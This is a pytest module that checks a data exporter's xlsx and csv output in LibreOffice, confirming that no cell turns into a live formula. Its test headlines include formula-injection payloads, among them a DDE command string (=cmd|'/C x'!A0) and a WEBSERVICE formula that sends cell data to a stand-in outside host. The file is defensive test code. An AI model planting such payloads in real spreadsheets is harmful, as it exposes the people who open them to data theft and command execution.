"""Formulas are dead in a real spreadsheet, and its cells hold the very texts: LibreOffice."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable, Sequence
from pathlib import Path
from xml.etree import ElementTree

import pytest

from storage.exporting.columns import columns
from storage.exporting.orders import Excel, Export
from storage.exporting.rows import Row
from storage.exporting.writing import write_rows
from storage.formulas import restore

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not on this machine")

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
HEADLINES = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://away.test";"x")', "=cmd|'/C x'!A0",
    '=WEBSERVICE("http://away.test/"&A1)', "\t=1+1", "  =1+1", "＝1+1", "'=1+1", "''two", "|x",
    "%0A=1", "_x0041_", "3-4", "007",
    "true", "FALSE", "حقوق الإنسان: 45% من «العينة» (12/03/2026)", "<b>&amp;</b>",
    "a;b,c\"d\"", "خبر (=SUM) عادي", "ڕێکخراوی می\u200cخواهم",
)  # fmt: skip
NAMES = [column.name for column in columns("articles")]

Cells = list[list[tuple[str, str | None]]]
Convert = Callable[..., list[Cells]]


@pytest.fixture(scope="module")
def convert(tmp_path_factory: pytest.TempPathFactory) -> Convert:
    """Opens a file in LibreOffice; of each cell of the first sheet, its text and formula."""
    profile = tmp_path_factory.mktemp("profile")

    def opened(*files: Path, filter: str = "") -> list[Cells]:
        command = [
            str(SOFFICE), f"-env:UserInstallation={profile.as_uri()}", "--headless",
            *([f"--infilter={filter}"] if filter else []), "--convert-to", "fods",
            "--outdir", str(files[0].parent), *map(str, files),
        ]  # fmt: skip
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        return [_sheet(file.with_suffix(".fods")) for file in files]

    return opened


def _sheet(file: Path) -> Cells:
    (sheet, *_) = ElementTree.parse(file).getroot().iter(f"{TABLE}table")
    return [list(map(_cell, _cells(row))) for row in sheet.iter(f"{TABLE}table-row")]


def _cells(row: ElementTree.Element) -> list[ElementTree.Element]:
    found = []
    for cell in row:
        repeated = int(cell.get(f"{TABLE}number-columns-repeated", "1"))
        found += [cell] * min(repeated, 100)
    return found


def _cell(cell: ElementTree.Element) -> tuple[str, str | None]:
    """Its text, and its formula if it has one; a cell that became a number has no text of ours."""
    if cell.get(f"{OFFICE}value-type") not in (None, "string"):
        return f"({cell.get(f'{OFFICE}value-type')})", cell.get(f"{TABLE}formula")
    return "\n".join(map(_said, cell.findall(f"{TEXT}p"))), cell.get(f"{TABLE}formula")


def _said(piece: ElementTree.Element) -> str:
    said = piece.text or ""
    for part in piece:
        said += {f"{TEXT}s": " " * int(part.get(f"{TEXT}c", "1")), f"{TEXT}tab": "\t"}.get(
            part.tag, _said(part)
        ) + (part.tail or "")
    return said


def _rows(headlines: Sequence[str]) -> list[Row]:
    empty: Row = dict.fromkeys(NAMES, None)
    return [
        {**empty, "article_id": str(number), "headline": headline}
        for number, headline in enumerate(headlines, start=1)
    ]


def _column(table: list[list[tuple[str, str | None]]], name: str) -> list[tuple[str, str | None]]:
    place = NAMES.index(name)
    return [row[place] for row in table[1 : len(HEADLINES) + 1]]


def test_a_workbook_computes_nothing_and_shows_the_very_texts(
    convert: Convert, tmp_path: Path
) -> None:
    file = tmp_path / "articles.xlsx"
    write_rows(_rows(HEADLINES), Export(format="xlsx"), file, {})

    (table,) = convert(file)

    assert [formula for row in table for _, formula in row if formula] == []
    assert [text for text, _ in _column(table, "headline")] == list(HEADLINES)
    assert _column(table, "article_id")[6] == ("7", None)


@pytest.mark.parametrize(("excel", "separator"), [(None, 44), ("ar", 59)])
def test_a_csv_computes_nothing_even_where_formulas_are_let_in(
    convert: Convert, tmp_path: Path, excel: Excel | None, separator: int
) -> None:
    file = tmp_path / "articles.csv"
    write_rows(_rows(HEADLINES), Export(excel=excel), file, {})
    plain = tmp_path / "plain.csv"
    plain.write_text('"a"\n"=1+1"\n')
    # Numbers are guessed and formulas run: what a careless reader of the file would set.
    careless = f"CSV:{separator},34,76,1,,1033,false,true,false,false,false,0,true"

    table, control = convert(file, plain, filter=careless)

    assert [formula for row in control for _, formula in row if formula], "nothing would be shown"
    assert [formula for row in table for _, formula in row if formula] == []
    shown = [restore(text) for text, _ in _column(table, "headline")]
    if excel is not None:
        assert shown == list(HEADLINES)
    else:  # for programs, what looks like a figure has no sign before it
        assert [text for text in shown if not text.startswith("(")] == [
            headline for headline in HEADLINES if headline not in ("007", "true", "FALSE")
        ]
